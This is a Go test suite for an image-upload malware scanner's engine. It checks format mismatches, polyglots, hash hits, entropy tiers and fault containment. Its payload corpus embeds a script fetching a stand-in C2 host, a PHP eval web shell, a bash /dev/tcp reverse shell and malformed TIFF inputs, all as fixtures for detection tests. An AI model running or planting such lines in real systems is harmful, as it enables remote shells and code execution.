package engine

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand"
	"strings"
	"sync"
	"testing"
	"time"

	"imgscan-server/internal/format"
	"imgscan-server/internal/hashindex"
	"imgscan-server/internal/rules"
	"imgscan-server/internal/verdict"
)

func jpegSegment(marker byte, payload []byte) []byte {
	seg := []byte{0xFF, marker, 0, 0}
	binary.BigEndian.PutUint16(seg[2:], uint16(len(payload)+2))
	return append(seg, payload...)
}

// cleanJPEG is a structurally valid JPEG with low-entropy scan data
func cleanJPEG(segments ...[]byte) []byte {
	out := []byte{0xFF, 0xD8}
	out = append(out, jpegSegment(0xE0, []byte("JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"))...)
	for _, s := range segments {
		out = append(out, s...)
	}
	out = append(out, jpegSegment(0xDA, []byte{0x01, 0x01, 0x00, 0x00, 0x3F, 0x00})...)
	for i := 0; i < 2048; i++ {
		out = append(out, byte(0x10+i%48))
	}
	return append(out, 0xFF, 0xD9)
}

func pngChunk(typ string, body []byte) []byte {
	out := make([]byte, 4, 12+len(body))
	binary.BigEndian.PutUint32(out, uint32(len(body)))
	out = append(out, typ...)
	out = append(out, body...)
	return append(out, 0, 0, 0, 0)
}

func cleanPNG() []byte {
	out := []byte{0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A}
	out = append(out, pngChunk("IHDR", make([]byte, 13))...)
	return append(out, pngChunk("IEND", nil)...)
}

func randomBytes(n int) []byte {
	b := make([]byte, n)
	rand.New(rand.NewSource(42)).Read(b)
	return b
}

func newTestEngine(t *testing.T, idx *hashindex.Index) *Engine {
	t.Helper()
	rs, err := rules.Default()
	if err != nil {
		t.Fatalf("Default() error = %v", err)
	}
	return New(rs, idx, Config{})
}

func mustScan(t *testing.T, e *Engine, req Request) *Result {
	t.Helper()
	res, err := e.Scan(req)
	if err != nil {
		t.Fatalf("Scan(%s, %s) error = %v", req.Filename, req.Depth, err)
	}
	return res
}

func findingKey(f verdict.Finding) string {
	return fmt.Sprintf("%s|%s|%s|%s", f.Category, f.Severity, f.RuleName, f.Detail)
}

func findingSet(findings []verdict.Finding) map[string]bool {
	set := make(map[string]bool, len(findings))
	for _, f := range findings {
		set[findingKey(f)] = true
	}
	return set
}

func TestScan_CleanBaseline(t *testing.T) {
	e := newTestEngine(t, nil)
	for _, depth := range []string{"light", "full"} {
		t.Run(depth, func(t *testing.T) {
			res := mustScan(t, e, Request{Data: cleanJPEG(), Filename: "photo.jpg", Depth: depth})
			if res.RiskLevel != verdict.RiskClean {
				t.Errorf("RiskLevel = %s, want CLEAN: %+v", res.RiskLevel, res.Findings)
			}
			if len(res.Findings) != 0 {
				t.Errorf("Findings = %+v, want none", res.Findings)
			}
			if res.Findings == nil {
				t.Error("Findings is nil, want empty slice")
			}
		})
	}
}

func TestScan_ExtensionMismatch(t *testing.T) {
	e := newTestEngine(t, nil)
	for _, depth := range []string{"light", "full"} {
		t.Run(depth, func(t *testing.T) {
			res := mustScan(t, e, Request{Data: cleanPNG(), Filename: "cat.jpg", Depth: depth})
			if len(res.Findings) != 1 {
				t.Fatalf("Findings = %+v, want exactly one", res.Findings)
			}
			f := res.Findings[0]
			if f.Category != verdict.CategoryFormatManipulation || f.Severity != verdict.SeverityMedium {
				t.Errorf("finding = %+v, want format_manipulation/medium", f)
			}
			if res.RiskLevel != verdict.RiskMedium {
				t.Errorf("RiskLevel = %s, want MEDIUM", res.RiskLevel)
			}
			if !res.Format.Mismatch {
				t.Error("Format.Mismatch = false")
			}
		})
	}
}

func TestScan_PolyglotEscalation(t *testing.T) {
	e := newTestEngine(t, nil)
	data := append(cleanJPEG(), []byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n")...)

	res := mustScan(t, e, Request{Data: data, Filename: "invoice.jpg", Depth: "full"})
	if res.RiskLevel != verdict.RiskHigh {
		t.Errorf("RiskLevel = %s, want HIGH: %+v", res.RiskLevel, res.Findings)
	}
	if !res.Format.Polyglot {
		t.Error("Format.Polyglot = false")
	}
	var found bool
	for _, f := range res.Findings {
		if f.Category == verdict.CategoryFormatManipulation && f.Severity == verdict.SeverityHigh {
			found = true
		}
	}
	if !found {
		t.Errorf("Findings = %+v, want high format_manipulation", res.Findings)
	}
}

func TestScan_HashHitDominance(t *testing.T) {
	clean := cleanJPEG()
	noisy := append(cleanPNG(), "<script>"...)

	b := hashindex.NewBuilder()
	for _, data := range [][]byte{clean, noisy} {
		if err := b.Add(hashindex.Compute(data, false).SHA256); err != nil {
			t.Fatal(err)
		}
	}
	e := newTestEngine(t, b.Build())

	tests := []struct {
		name  string
		data  []byte
		file  string
		depth string
	}{
		{"CleanLight", clean, "a.jpg", "light"},
		{"CleanFull", clean, "a.jpg", "full"},
		{"NoisyFull", noisy, "a.gif", "full"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := mustScan(t, e, Request{Data: tt.data, Filename: tt.file, Depth: tt.depth})
			if res.RiskLevel != verdict.RiskCritical {
				t.Errorf("RiskLevel = %s, want CRITICAL", res.RiskLevel)
			}
			var hit bool
			for _, f := range res.Findings {
				if f.Category == verdict.CategoryMalware && f.Severity == verdict.SeverityCritical {
					hit = true
				}
			}
			if !hit {
				t.Errorf("Findings = %+v, want critical malware", res.Findings)
			}
		})
	}

	t.Run("OtherChecksStillRun", func(t *testing.T) {
		res := mustScan(t, e, Request{Data: noisy, Filename: "a.gif", Depth: "full"})
		if len(res.Findings) < 3 {
			t.Errorf("Findings = %+v, want hash, mismatch and script findings", res.Findings)
		}
	})
}

func TestScan_MD5HitOnlyAtFullDepth(t *testing.T) {
	data := cleanJPEG()
	b := hashindex.NewBuilder()
	if err := b.Add(hashindex.Compute(data, true).MD5); err != nil {
		t.Fatal(err)
	}
	e := newTestEngine(t, b.Build())

	if res := mustScan(t, e, Request{Data: data, Filename: "a.jpg", Depth: "light"}); res.RiskLevel != verdict.RiskClean {
		t.Errorf("light RiskLevel = %s, want CLEAN", res.RiskLevel)
	}
	if res := mustScan(t, e, Request{Data: data, Filename: "a.jpg", Depth: "full"}); res.RiskLevel != verdict.RiskCritical {
		t.Errorf("full RiskLevel = %s, want CRITICAL", res.RiskLevel)
	}
}

func TestScan_EntropyTierGating(t *testing.T) {
	e := newTestEngine(t, nil)
	data := randomBytes(256 << 10)

	hasStego := func(res *Result) bool {
		for _, f := range res.Findings {
			if f.Category == verdict.CategorySteganography && f.Severity == verdict.SeverityMedium {
				return true
			}
		}
		return false
	}

	full := mustScan(t, e, Request{Data: data, Filename: "noise.png", Depth: "full"})
	if !hasStego(full) {
		t.Errorf("full Findings = %+v, want steganography/medium", full.Findings)
	}
	if full.Entropy == nil || *full.Entropy < 7.9 {
		t.Errorf("full Entropy = %v, want about 8", full.Entropy)
	}

	light := mustScan(t, e, Request{Data: data, Filename: "noise.png", Depth: "light"})
	if hasStego(light) {
		t.Errorf("light Findings = %+v, want no entropy finding", light.Findings)
	}
	if light.Entropy != nil || light.Metadata != nil {
		t.Error("light result carries full-tier sections")
	}
}

func TestScan_Digests(t *testing.T) {
	e := newTestEngine(t, nil)
	data := cleanJPEG()

	light := mustScan(t, e, Request{Data: data, Filename: "a.jpg"})
	if light.Tier != rules.TierLight {
		t.Errorf("default Tier = %s, want light", light.Tier)
	}
	if light.Hashes.SHA256 == "" || light.Hashes.MD5 != "" || light.Hashes.SHA1 != "" || light.Hashes.SHA512 != "" {
		t.Errorf("light Hashes = %+v, want sha256 only", light.Hashes)
	}

	full := mustScan(t, e, Request{Data: data, Filename: "a.jpg", Depth: "FULL"})
	if full.Hashes.MD5 == "" || full.Hashes.SHA1 == "" || full.Hashes.SHA512 == "" {
		t.Errorf("full Hashes = %+v, want all four", full.Hashes)
	}
	if full.Hashes.SHA256 != light.Hashes.SHA256 {
		t.Error("sha256 differs between tiers")
	}
	if full.FileSize != len(data) {
		t.Errorf("FileSize = %d, want %d", full.FileSize, len(data))
	}
}

func TestScan_Rejections(t *testing.T) {
	e := newTestEngine(t, nil)

	tests := []struct {
		name string
		req  Request
		want error
	}{
		{"Empty", Request{Filename: "a.jpg"}, ErrEmptyPayload},
		{"Oversized", Request{Data: make([]byte, 51<<20), Filename: "a.jpg"}, ErrPayloadTooLarge},
		{"Extension", Request{Data: cleanJPEG(), Filename: "a.svg"}, ErrUnsupportedExtension},
		{"NoExtension", Request{Data: cleanJPEG(), Filename: "upload"}, ErrUnsupportedExtension},
		{"Depth", Request{Data: cleanJPEG(), Filename: "a.jpg", Depth: "deep"}, ErrInvalidDepth},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := e.Scan(tt.req)
			if res != nil {
				t.Errorf("Scan() result = %+v, want nil", res)
			}
			if !errors.Is(err, tt.want) {
				t.Errorf("Scan() error = %v, want %v", err, tt.want)
			}
			if !IsRejected(err) {
				t.Errorf("IsRejected(%v) = false", err)
			}
		})
	}
}

func TestScan_ConfiguredLimit(t *testing.T) {
	rs, _ := rules.Default()
	e := New(rs, nil, Config{MaxPayloadBytes: 1024})
	if e.MaxPayload() != 1024 {
		t.Errorf("MaxPayload() = %d", e.MaxPayload())
	}
	if _, err := e.Scan(Request{Data: make([]byte, 1025), Filename: "a.png"}); !errors.Is(err, ErrPayloadTooLarge) {
		t.Errorf("Scan() error = %v, want ErrPayloadTooLarge", err)
	}
	if New(rs, nil, Config{}).MaxPayload() != DefaultMaxPayload {
		t.Error("zero config does not fall back to DefaultMaxPayload")
	}
}

func corpusPayloads() map[string][]byte {
	return map[string][]byte{
		"clean":    cleanJPEG(),
		"script":   cleanJPEG(jpegSegment(0xFE, []byte("<script>fetch('http://c2.example.net/x')</script>"))),
		"php":      cleanJPEG(jpegSegment(0xFE, []byte("<?php eval($_POST['x']); ?>"))),
		"polyglot": append(cleanJPEG(), "%PDF-1.4 /JavaScript /OpenAction"...),
		"random":   randomBytes(128 << 10),
		"shell":    append(cleanPNG(), "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"...),
	}
}

func TestScan_Deterministic(t *testing.T) {
	e := newTestEngine(t, nil)
	for name, data := range corpusPayloads() {
		t.Run(name, func(t *testing.T) {
			first := mustScan(t, e, Request{Data: data, Filename: "x.jpg", Depth: "full"})
			for i := 0; i < 5; i++ {
				again := mustScan(t, e, Request{Data: data, Filename: "x.jpg", Depth: "full"})
				if again.RiskLevel != first.RiskLevel {
					t.Fatalf("run %d RiskLevel = %s, want %s", i, again.RiskLevel, first.RiskLevel)
				}
				a, b := findingSet(first.Findings), findingSet(again.Findings)
				if len(a) != len(b) {
					t.Fatalf("run %d findings differ: %v vs %v", i, a, b)
				}
				for k := range a {
					if !b[k] {
						t.Fatalf("run %d missing finding %s", i, k)
					}
				}
				if again.ScanID == first.ScanID {
					t.Error("ScanID reused across scans")
				}
			}
		})
	}
}

func TestScan_MonotonicTiers(t *testing.T) {
	e := newTestEngine(t, nil)
	for name, data := range corpusPayloads() {
		t.Run(name, func(t *testing.T) {
			light := mustScan(t, e, Request{Data: data, Filename: "x.jpg", Depth: "light"})
			full := mustScan(t, e, Request{Data: data, Filename: "x.jpg", Depth: "full"})

			fullSet := findingSet(full.Findings)
			for _, f := range light.Findings {
				if !fullSet[findingKey(f)] {
					t.Errorf("light finding %s missing at full depth", findingKey(f))
				}
			}
			if full.RiskLevel < light.RiskLevel {
				t.Errorf("full RiskLevel %s below light %s", full.RiskLevel, light.RiskLevel)
			}
		})
	}
}

func TestScan_ScriptPayloads(t *testing.T) {
	e := newTestEngine(t, nil)
	payloads := corpusPayloads()

	tests := []struct {
		name  string
		depth string
		want  verdict.RiskLevel
	}{
		{"script", "light", verdict.RiskHigh},
		{"php", "light", verdict.RiskHigh},
		{"shell", "light", verdict.RiskHigh},
		{"script", "full", verdict.RiskHigh},
	}
	for _, tt := range tests {
		t.Run(tt.name+"_"+tt.depth, func(t *testing.T) {
			res := mustScan(t, e, Request{Data: payloads[tt.name], Filename: "x.jpg", Depth: tt.depth})
			if res.RiskLevel < tt.want {
				t.Errorf("RiskLevel = %s, want at least %s: %+v", res.RiskLevel, tt.want, res.Findings)
			}
		})
	}
}

func TestScan_StageFaultIsContained(t *testing.T) {
	e := newTestEngine(t, nil)
	for i := range e.stages {
		if e.stages[i].name == "signature" {
			e.stages[i].run = func(*scanState) []verdict.Finding { panic("corrupt rule table") }
		}
	}

	res := mustScan(t, e, Request{Data: cleanJPEG(), Filename: "a.jpg", Depth: "full"})
	if res.RiskLevel != verdict.RiskMedium {
		t.Errorf("RiskLevel = %s, want MEDIUM", res.RiskLevel)
	}
	if len(res.Findings) != 1 {
		t.Fatalf("Findings = %+v, want the fault finding only", res.Findings)
	}
	f := res.Findings[0]
	if f.Category != verdict.CategoryAdvancedThreat || f.Detail != "signature analysis failed" {
		t.Errorf("finding = %+v", f)
	}
	if res.Hashes.SHA256 == "" || res.Metadata == nil || res.Entropy == nil {
		t.Error("stages after the fault did not run")
	}
}

func TestScan_FormatFaultIsContained(t *testing.T) {
	e := newTestEngine(t, nil)
	e.validate = func([]byte, string) (format.Report, []verdict.Finding) { panic("bad magic table") }

	res := mustScan(t, e, Request{Data: cleanJPEG(), Filename: "a.jpg", Depth: "full"})
	if len(res.Findings) != 1 || res.Findings[0].Detail != "format analysis failed" {
		t.Fatalf("Findings = %+v, want the format fault only", res.Findings)
	}
	if res.Findings[0].Category != verdict.CategoryAdvancedThreat || res.Findings[0].Severity != verdict.SeverityMedium {
		t.Errorf("finding = %+v", res.Findings[0])
	}
	if res.Format.DetectedFormat != format.FormatUnknown || res.Format.DeclaredExtension != "jpg" {
		t.Errorf("Format = %+v, want unknown with the declared extension", res.Format)
	}
	if res.Hashes.SHA256 == "" || res.Entropy == nil {
		t.Error("stages after the fault did not run")
	}
}

func TestScan_HostileTIFFFullDepth(t *testing.T) {
	e := newTestEngine(t, nil)

	payloads := map[string][]byte{
		// one SHORT tag claiming 0x40000002 elements
		"OversizedCount": {
			'I', 'I', 0x2A, 0x00, 0x08, 0x00, 0x00, 0x00,
			0x01, 0x00,
			0x00, 0x01, 0x03, 0x00, 0x02, 0x00, 0x00, 0x40, 0x00, 0x00, 0x00, 0x00,
			0x00, 0x00, 0x00, 0x00,
		},
		// IFD0 at 8 links to IFD1 at 14, which links back to 8
		"CyclicChain": {
			'I', 'I', 0x2A, 0x00, 0x08, 0x00, 0x00, 0x00,
			0x00, 0x00, 0x0E, 0x00, 0x00, 0x00,
			0x00, 0x00, 0x08, 0x00, 0x00, 0x00,
		},
	}

	for name, data := range payloads {
		name, data := name, data
		t.Run(name, func(t *testing.T) {
			type outcome struct {
				res *Result
				err error
			}
			done := make(chan outcome, 1)
			go func() {
				res, err := e.Scan(Request{Data: data, Filename: "x.tiff", Depth: "full"})
				done <- outcome{res, err}
			}()

			var res *Result
			select {
			case out := <-done:
				if out.err != nil {
					t.Fatalf("Scan() error = %v", out.err)
				}
				res = out.res
			case <-time.After(5 * time.Second):
				t.Fatal("Scan did not return")
			}

			if res.Metadata == nil || !res.Metadata.Malformed {
				t.Errorf("Metadata = %+v, want malformed", res.Metadata)
			}
			found := false
			for _, f := range res.Findings {
				if f.Category == verdict.CategoryFormatManipulation && f.Severity == verdict.SeverityLow &&
					strings.HasPrefix(f.Detail, "malformed metadata") {
					found = true
				}
			}
			if !found {
				t.Errorf("Findings = %+v, want malformed metadata finding", res.Findings)
			}
		})
	}
}

func TestScan_FaultsOrderedLast(t *testing.T) {
	e := newTestEngine(t, nil)
	e.stages[0].run = func(*scanState) []verdict.Finding { panic("boom") }

	res := mustScan(t, e, Request{Data: cleanPNG(), Filename: "a.jpg"})
	if len(res.Findings) != 2 {
		t.Fatalf("Findings = %+v, want mismatch then fault", res.Findings)
	}
	if res.Findings[0].Severity != verdict.SeverityMedium || res.Findings[1].Detail != "hash analysis failed" {
		t.Errorf("Findings = %+v", res.Findings)
	}
}

func TestScan_Concurrent(t *testing.T) {
	e := newTestEngine(t, nil)
	payloads := corpusPayloads()

	want := make(map[string]verdict.RiskLevel)
	for name, data := range payloads {
		want[name] = mustScan(t, e, Request{Data: data, Filename: "x.jpg", Depth: "full"}).RiskLevel
	}

	var wg sync.WaitGroup
	errs := make(chan error, 64)
	for i := 0; i < 8; i++ {
		for name, data := range payloads {
			wg.Add(1)
			go func(name string, data []byte) {
				defer wg.Done()
				res, err := e.Scan(Request{Data: data, Filename: "x.jpg", Depth: "full"})
				if err != nil {
					errs <- err
					return
				}
				if res.RiskLevel != want[name] {
					errs <- fmt.Errorf("%s: RiskLevel = %s, want %s", name, res.RiskLevel, want[name])
				}
			}(name, data)
		}
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestScan_DoesNotMutatePayload(t *testing.T) {
	e := newTestEngine(t, nil)
	data := cleanJPEG(jpegSegment(0xFE, []byte("<SCRIPT>")))
	orig := bytes.Clone(data)
	mustScan(t, e, Request{Data: data, Filename: "a.jpg", Depth: "full"})
	if !bytes.Equal(data, orig) {
		t.Error("Scan modified the request payload")
	}
}
